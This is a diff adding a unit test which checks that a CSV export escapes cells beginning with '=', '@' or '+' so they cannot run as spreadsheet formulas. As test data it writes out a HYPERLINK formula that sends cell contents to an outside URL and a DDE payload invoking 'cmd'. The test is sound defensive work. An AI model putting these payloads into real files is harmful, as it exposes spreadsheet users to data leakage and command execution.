@@ -37,6 +37,20 @@ def test_csv_holds_the_bilan_table_cell_by_cell(seed_plan, tmp_path):
         assert list(csv.reader(file)) == expected_table()
 
 
+def test_csv_makes_texts_that_start_like_a_formula_inert(seed_plan, tmp_path):
+    """The bilan CSV is public once frozen: a text must never run as a spreadsheet formula."""
+    entry = BilanEntry.objects.get(report_row__measure__number=1, reporting_year__year=2022)
+    entry.bilan_text = '=HYPERLINK("http://example.org/?"&A1;"voir")'
+    entry.action_plan_text = "@SUM(1+1)*cmd|' /C calc'!A0"
+    entry.save()
+    with export_file(tmp_path, "csv").open(encoding="utf-8", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert "'" + entry.bilan_text in cells
+    assert "'" + entry.action_plan_text in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]
+    assert "1" in cells  # a measure number stays a number
+
+
 def test_xlsx_holds_the_bilan_table_cell_by_cell(seed_plan, tmp_path):
     from openpyxl import load_workbook
 
